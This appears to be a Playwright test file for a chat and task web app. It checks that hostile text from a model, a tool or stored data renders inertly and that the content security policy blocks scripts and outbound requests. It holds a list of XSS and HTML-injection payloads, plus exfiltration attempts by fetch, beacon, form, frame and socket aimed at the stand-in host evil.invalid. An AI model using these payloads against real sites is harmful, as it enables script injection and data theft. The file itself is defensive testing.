// What a hostile model, tool or stored text can do in the page: it can only appear as text. Every
// request of the browser is recorded.
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { assistantItem, saying, userItem, workflowItem } from './stand-in-chatkit.ts'
import { modelRequests, say, signInAs, taskTitles, trail } from './taskflow-page.ts'
import { eventually, type Visit, visits } from './visit.ts'

const { visit, ground } = visits()

/**
 * The place that a payload would report to. The name does not resolve, but an attempt would be
 * recorded.
 */
const EVIL = 'http://evil.invalid'

const PAYLOADS = [
  `<script>globalThis.owned = 1; fetch('${EVIL}/script')</script>`,
  `<img src=x onerror="globalThis.owned = 1; fetch('${EVIL}/onerror')">`,
  `<img src="${EVIL}/pixel?d=secret">`,
  `<svg onload="globalThis.owned = 1"><script>globalThis.owned = 1</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=${EVIL}/m onerror=globalThis.owned=1>`,
  `<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>`,
  `<a href="javascript:globalThis.owned = 1">click</a>`,
  `<form action="${EVIL}/form"><input name=token><button>Sign in</button></form>`,
  `<link rel=stylesheet href="${EVIL}/style.css"><style>@import '${EVIL}/import.css'; * { background: url(${EVIL}/css) }</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/meta"><base href="${EVIL}/">`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><video poster="${EVIL}/poster" src="${EVIL}/video">`,
  `![image](${EVIL}/markdown?d=secret) [link](javascript:globalThis.owned=1) [ref][r]\n\n[r]: ${EVIL}/ref`,
  `"><details open ontoggle=globalThis.owned=1>'-globalThis.owned=1-'\`\${globalThis.owned=1}\``,
  `{{constructor.constructor('globalThis.owned = 1')()}} <%= 1 %> \${1}`,
  `</p></li></ol></script><noscript><p title="</noscript><img src=${EVIL}/n onerror=globalThis.owned=1>">`,
] as const

/** Nothing ran, nothing asked, and nothing was even tried that the policy had to stop. */
async function expectHarmless({ page, requests, troubles }: Visit): Promise<void> {
  expect(await page.evaluate('globalThis.owned')).toBeUndefined()
  const { web, api, issuer } = ground().urls
  const origins = new Set(
    requests
      .map((request) => request.url())
      .filter((url) => !url.startsWith('data:'))
      .map((url) => new URL(url).origin),
  )
  expect(
    [...origins].filter(
      (origin) =>
        ![new URL(web).origin, new URL(api).origin, new URL(issuer).origin].includes(origin),
    ),
  ).toEqual([])
  expect(troubles).toEqual([])
  // Texts stay texts. Markdown makes links of them that a person may follow, and nothing that
  // loads, runs or asks.
  const made =
    'script:not([src="/main.ts"], [src="/onbehalf-chat.js"]), iframe, object, embed, img, base, video, audio'
  expect(await page.locator(made).count()).toBe(0)
  expect(
    // "/auth/page" is the page's own link to a person's sign-ins.
    await page
      .locator(
        'a[href]:not([href^="http:"], [href^="https:"], [href^="mailto:"], header [href="/auth/page"])',
      )
      .count(),
  ).toBe(0)
}

async function signedIn(): Promise<Visit & { readonly page: Page }> {
  const visited = await visit()
  await signInAs(visited.page, 'alice')
  return visited
}

describe('hostile text', () => {
  it.each(PAYLOADS)(
    'hostile text in a message and its answer does nothing: %s',
    async (payload) => {
      const visited = await signedIn()
      ground().chatkit.scripts.push(saying(payload))
      await say(visited.page, payload)
      await expectHarmless(visited)
    },
  )

  it('everywhere else is only text: titles, steps, notices, errors, tasks, trail, model requests, ids', async () => {
    const payload = PAYLOADS.join('\n')
    const task = { type: 'custom', title: payload, content: payload, status_indicator: 'complete' }
    ground().chatkit.threads.set('thr_bad', {
      title: payload,
      items: [userItem('u', payload), workflowItem(payload, [task]), assistantItem('a', payload)],
    })
    ground().tasks = [
      {
        id: payload,
        title: payload,
        status: payload,
        priority: payload,
        due_date: payload,
        project: payload,
        assignee: payload,
        tags: [payload],
        progress: 50,
      },
    ]
    ground().events = [
      {
        time: 1,
        hop: payload,
        outcome: payload,
        reason: payload,
        subject: payload,
        client: payload,
        actors: [payload],
        audience: [payload],
        scopes: [payload],
        placement: payload,
        operation: payload,
        destination: payload,
        fingerprint: payload,
        expiresAt: 2,
      },
    ]
    ground().modelRequests = () => [{ [payload]: payload }]
    const visited = await signedIn()
    const { page } = visited
    await page.locator('onbehalf-chat .thread-open').first().click()
    await page.locator('onbehalf-chat .entry[data-type=workflow]').waitFor()
    ground().chatkit.scripts.push(({ send }) => {
      send(
        { type: 'thread.updated', thread: { id: 'thr_bad', title: payload } },
        { type: 'progress_update', text: payload, icon: payload },
      )
      send({ type: 'thread.item.done', item: workflowItem('wf', [task]) })
      send({ type: 'thread.item.done', item: { id: payload, type: payload } })
      send({ type: 'notice', level: payload, title: payload, message: payload })
      send({ type: 'error', code: payload, message: payload, allow_retry: true })
    })
    await say(page, payload)
    await trail(page)
    await modelRequests(page)
    await page.getByRole('tab', { name: 'What the model saw' }).click()
    await eventually(() => taskTitles(page)).toEqual([payload])
    expect(await page.locator('onbehalf-chat .banner').last().textContent()).toContain('<script>')
    await expectHarmless(visited)
  })

  it('hostile text in the address is only a thread that does not exist', async () => {
    const visited = await visit({ path: `/#${encodeURIComponent(PAYLOADS[1])}` })
    await signInAs(visited.page, 'alice')
    await expectHarmless(visited)
    expect(ground().chatkit.received.map(({ type }) => type)).not.toContain('threads.get_by_id')
  })
})

describe('the policy holds even if the page had a fault', () => {
  it('markup cannot be made from text (Trusted Types)', async () => {
    const { page } = await visit()
    const attempt = `(() => { try { document.body.innerHTML = '<b>x</b>'; return 'made' } catch (error) { return error.name } })()`
    expect(await page.evaluate(attempt)).toBe('TypeError')
    const policy = `(() => { try { trustedTypes.createPolicy('own', {}); return 'made' } catch (error) { return error.name } })()`
    expect(await page.evaluate(policy)).toBe('TypeError')
  })

  it.each([
    [
      'an inline script',
      `const s = document.createElement('script'); s.append('globalThis.owned = 1'); document.body.append(s)`,
    ],
    [
      'an event attribute',
      `const b = document.createElement('button'); try { b.setAttribute('onclick', 'globalThis.owned = 1') } catch {} document.body.append(b); b.click()`,
    ],
    [
      'a javascript: link',
      `const a = document.createElement('a'); a.href = 'javascript:globalThis.owned = 1'; document.body.append(a); a.click()`,
    ],
  ])('%s does not run', async (_, attempt) => {
    const { page } = await visit()
    await page.evaluate(`(() => { try { ${attempt} } catch {} })()`)
    await page.getByRole('button', { name: 'Sign in' }).waitFor()
    expect(await page.evaluate('globalThis.owned')).toBeUndefined()
  })

  it.each([
    ['fetch', `fetch('${EVIL}/fetch').catch(() => {})`],
    ['an image', `new Image().src = '${EVIL}/image'`],
    ['a beacon', `navigator.sendBeacon('${EVIL}/beacon', 'x')`],
    [
      'a form',
      `(() => { const f = document.createElement('form'); f.action = '${EVIL}/form'; f.method = 'post'; document.body.append(f); f.submit() })()`,
    ],
    [
      'a style sheet',
      `(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${EVIL}/style'; document.head.append(l) })()`,
    ],
    [
      'a frame',
      `(() => { const f = document.createElement('iframe'); f.src = '${EVIL}/frame'; document.body.append(f) })()`,
    ],
    ['a socket', `(() => { try { new WebSocket('ws://evil.invalid/socket') } catch {} })()`],
  ])('%s cannot take anything to a stranger', async (_, attempt) => {
    const { page, troubles } = await visit()
    const left: string[] = []
    // What the policy stops never reaches the network layer, where a route would catch it.
    await page.context().route(/evil\.invalid/, (route) => {
      left.push(route.request().url())
      return route.abort()
    })
    await page.evaluate(`void (() => { ${attempt} })()`)
    await eventually(() => troubles.length).toBeGreaterThan(0)
    expect(left).toEqual([])
    expect(page.url()).toBe(`${ground().urls.web}/`)
  })
})
